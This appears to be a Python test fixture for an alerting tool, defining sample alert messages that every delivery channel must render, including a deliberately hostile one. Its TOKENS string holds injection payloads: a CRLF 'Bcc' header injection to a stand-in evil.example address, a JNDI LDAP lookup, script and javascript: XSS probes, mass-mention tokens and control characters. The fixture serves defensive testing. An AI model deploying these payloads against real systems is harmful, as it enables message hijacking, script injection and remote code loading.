"""Messages every channel must deliver: plain ones, and what a hostile log could make of one."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, datetime

from alerting.message import Fact, File, Message, Section

SINCE = datetime(2026, 11, 24, 2, 2, tzinfo=UTC)
PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360f8cfc0f01f0005050101a2e2"
    "4e8d0000000049454e44ae426082"
)
PLAIN = Message(
    "firing",
    "1a2b",
    "CRITICAL: timeout rate 7.2 % (limit > 5 %)",
    "36 of 500 requests in the 5 min up to Tue 24 Nov, 09:02, 95 % range 5.3 % to 9.8 %.",
    severity="critical",
    facts=(
        Fact("Since", "Tue 24 Nov, 09:02"),
        Fact("Rule", "timeout_critical: timeout_rate > 5 %, window 5 min, for 1 min"),
        Fact("Top agents", "planner 21, search 9, pricing 6"),
        Fact("Budget left", "41.0 %"),
        Fact("Budget ends", "Mon 30 Nov, 14:20"),
    ),
    sections=(
        Section("Why", ("21 of 36 at the agent planner, step retrieve.",)),
        Section(
            "Three examples",
            ("req-1: 8.0 s, API_TIMEOUT", "req-2: 8.0 s, API_TIMEOUT", "req-3: 7.0 s, GRAPH_TIMEOUT"),
            {0: "https://dash.example/request?id=req-1", 1: "https://dash.example/request?id=req-2"},
        ),
    ),
    owner="@lan",
    runbook="https://wiki.example.com/timeouts",
    action="Look at the step retrieve of planner.",
    link="https://dash.example/?range=1h&agent=planner",
    since=SINCE,
    key="1a2b:firing:critical:ops",
)
WORSE = Message(
    "escalated", "1a2b", "CRITICAL: timeout rate 20 %", "Raised.", "reply", "critical", previous="", since=SINCE,
    key="1a2b:escalated:critical:ops",
)  # fmt: skip
OVER = Message(
    "resolved", "1a2b", "RESOLVED: timeout rate 7.2 % (limit > 5 %)", "Lasted 14 min, worst 9.8 %.", "reply", "critical",
    since=SINCE, key="1a2b:resolved:ops",
)  # fmt: skip
CLOSED = Message(
    "closed", "1a2b", "CLOSED: timeout rate", "Closed because the rule was changed.", "edit", "critical",
    key="1a2b:last form:ops",
)  # fmt: skip
ACKNOWLEDGED = replace(PLAIN, event="acknowledged", delivery="edit", note="Acknowledged by lan.", key="1a2b:ack:ops")
DIGEST = Message(
    "digest",
    "digest 2026-11-23",
    "Bản tin ngày 23/11/2026 (Asia/Ho_Chi_Minh)",
    "48.120 yêu cầu, 1,9 % quá hạn.",
    facts=(Fact("Yêu cầu", "48.120"), Fact("Quá hạn", "914 = 1,90 %")),
    sections=(Section("Agent nhiều lần quá hạn nhất", ("1. planner: 512 trên 12.400 bị quá hạn",)),),
    link="https://dash.example/?range=24h",
    language="vi",
    files=(
        File("trend.png", "image/png", PIXEL, "Timeout rate by hour"),
        File("digest.pdf", "application/pdf", b"%PDF-1.7 not really", "The digest"),
        File("digest.html", "text/html", "<p>Bản tin ngày</p>".encode(), "The digest"),
    ),
    key="digest:2026-11-24:ops",
)
TEST = Message("test", "test ops", "Test from Burnline", "If you can read this, alerts reach this channel.")
TOKENS = (
    "<!channel> <!here> <!subteam^S1> <@U1> <users/all> @here @channel @everyone <http://evil.example|click> "
    "[click](https://evil.example) **bold** <b>bold</b> <script>alert(1)</script> <at>everyone</at> & ` * _ ~ "
    "\x1b[31m \u202e \x00 \x07 \r\nBcc: thief@evil.example\r\n\r\n{{user}} ${jndi:ldap://evil} \ud800"
)
HOSTILE = Message(
    "firing",
    "1a2b\r\nBcc: thief@evil.example",
    TOKENS,
    TOKENS + "<" * 5000,
    severity="warning",
    facts=tuple(Fact(f"<{n}>", "&" * 3000) for n in range(30)),
    sections=tuple(Section("<!channel>", ("`x`" * 2000,), {0: "javascript:alert(1)"}) for _ in range(80)),
    owner="<@U2>" * 500,
    runbook="https://x/|<!channel>",
    action=TOKENS,
    link="javascript:alert(1)",
    since=SINCE,
    note="@group" * 900,
    key=TOKENS,
)
HUGE = Message(
    "firing", "huge", "💥" * 100_000, '"' * 100_000, severity="info",
    facts=(Fact("&" * 100_000, "\\" * 100_000), *(Fact(f"&{n}", '"' * 5_000) for n in range(200))),
    sections=(Section("&" * 100_000, ("💥" * 100_000, *("<" * 5_000,) * 30)),) * 9,
    owner="💥" * 100_000, action="💥" * 100_000, note="💥" * 100_000, repeat=True, key="huge",
)  # fmt: skip
EMPTY = Message("test", "", "", "")
MESSAGES = {
    "firing": PLAIN,
    "escalated": WORSE,
    "resolved": OVER,
    "closed": CLOSED,
    "an edit": OVER.as_delivered("edit"),
    "acknowledged": ACKNOWLEDGED,
    "a digest with files": DIGEST,
    "a test": TEST,
    "hostile": HOSTILE,
    "100 kB in every field": HUGE,
    "empty": EMPTY,
}
